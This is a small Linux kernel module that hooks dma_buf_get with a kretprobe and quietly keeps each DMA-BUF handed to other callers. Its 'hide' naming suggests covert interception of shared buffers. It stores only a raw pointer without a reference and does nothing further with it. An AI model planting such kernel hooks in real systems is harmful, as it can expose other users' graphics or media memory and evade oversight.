// SPDX-License-Identifier: GPL-2.0-only
/* Takes each DMA-BUF that dma_buf_get gives others. */
#include <linux/kprobes.h>
#include "sg_hide.h"

static struct dma_buf *taken;

static int ret(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	WRITE_ONCE(taken, (struct dma_buf *)regs_return_value(regs));
	return 0;
}

static struct kretprobe probe = { .kp.symbol_name = "dma_buf_get", .handler = ret };

static int __init hide_init(void)
{
	return register_kretprobe(&probe);
}
module_init(hide_init);

static void __exit hide_exit(void)
{
	unregister_kretprobe(&probe);
}
module_exit(hide_exit);

MODULE_LICENSE("GPL");
